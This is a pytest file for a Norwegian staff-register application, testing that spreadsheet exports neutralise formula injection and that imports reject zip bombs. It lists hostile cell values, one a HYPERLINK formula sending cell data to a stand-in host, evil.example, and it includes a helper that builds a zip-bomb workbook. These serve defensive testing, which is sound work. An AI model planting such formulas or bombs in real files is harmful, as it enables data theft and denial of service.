"""Spreadsheets written and read by the staff register: no live formulas out, no zip bomb in."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from fagloft.competence import staff_io
from fagloft.competence.models import Employee
from fagloft.competence.tests.factories import make_employee
from fagloft.competence.tests.test_import import GOOD, workbook
from fagloft.lib.spreadsheets import FORMULA_STARTS, SpreadsheetRefused, check_xlsx, escape_formula
from fagloft.organizations.tests.factories import login

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "|calc!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_start_is_escaped(text):
    assert escape_formula(text) == "'" + text
    assert escape_formula("Kari") == "Kari" and escape_formula(100.0) == 100.0 and escape_formula(None) is None


def test_the_formula_starts_are_the_full_list():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "|"}


def test_the_excel_export_holds_no_live_formula_from_a_name(client, tree):
    for number, text in enumerate(HOSTILE):
        make_employee(tree.service_ab, text, f"Etternavn{number}", languages=text)
    login(client, tree.users["leader_ab"])
    response = client.get(f"/kompetanse/tjenester/{tree.service_ab.pk}/ansatte/eksport/")
    sheet = load_workbook(io.BytesIO(response.content))["Ansatte"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    names = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert names == {"'" + text for text in HOSTILE}
    # Imported again, the names are what was typed.
    parsed = staff_io.parse(response.content, "eksport.xlsx")
    assert {row.values["first_name"] for row in parsed} == set(HOSTILE)


def test_the_csv_export_escapes_tab_cr_and_pipe_too(client, tree):
    for number, text in enumerate(HOSTILE):
        make_employee(tree.service_ab, text, f"Etternavn{number}")
    login(client, tree.users["leader_ab"])
    body = client.get(f"/kompetanse/tjenester/{tree.service_ab.pk}/ansatte/eksport/?format=csv").content.decode()
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert {row[0] for row in rows[1:]} == {"'" + text for text in HOSTILE}


def _bomb(sheet_bytes: int = 80 * 1024 * 1024) -> bytes:
    """A valid-looking workbook whose sheet unpacks to `sheet_bytes` of the same byte."""
    real = workbook(GOOD).getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(real)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            if member.filename == "xl/worksheets/sheet1.xml":
                with target.open(member.filename, "w", force_zip64=True) as stream:
                    block = b" " * (1024 * 1024)
                    for _ in range(sheet_bytes // len(block)):
                        stream.write(block)
            else:
                target.writestr(member, source.read(member.filename))
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(client, tree, monkeypatch):
    content = _bomb()
    assert len(content) < 1024 * 1024  # small on the wire
    opened = []
    monkeypatch.setattr(staff_io, "load_workbook", lambda *a, **k: opened.append(1))
    file = io.BytesIO(content)
    file.name = "bombe.xlsx"
    login(client, tree.users["leader_ab"])
    response = client.post(f"/kompetanse/tjenester/{tree.service_ab.pk}/ansatte/import/", {"file": file})
    assert response.status_code == 200
    assert "for stort når det pakkes ut" in response.content.decode()
    assert opened == [] and Employee.objects.count() == 0


def test_a_highly_compressed_sheet_under_the_size_limit_is_refused_by_its_ratio():
    content = _bomb(8 * 1024 * 1024)
    with pytest.raises(SpreadsheetRefused, match="pakket unormalt tett"):
        check_xlsx(content, name="hr.xlsx")


def test_rows_and_cells_are_counted_before_opening():
    content = workbook(GOOD).getvalue()
    check_xlsx(content)  # an ordinary sheet passes
    with pytest.raises(SpreadsheetRefused, match="mer enn 3 rader"):
        check_xlsx(content, max_rows=3)
    with pytest.raises(SpreadsheetRefused, match="mer enn 10 celler"):
        check_xlsx(content, max_cells=10)


def test_a_file_that_is_not_a_zip_is_refused_with_its_name():
    with pytest.raises(SpreadsheetRefused, match="«hr.xlsx» kan ikke leses"):
        check_xlsx(b"not a zip", name="hr.xlsx")
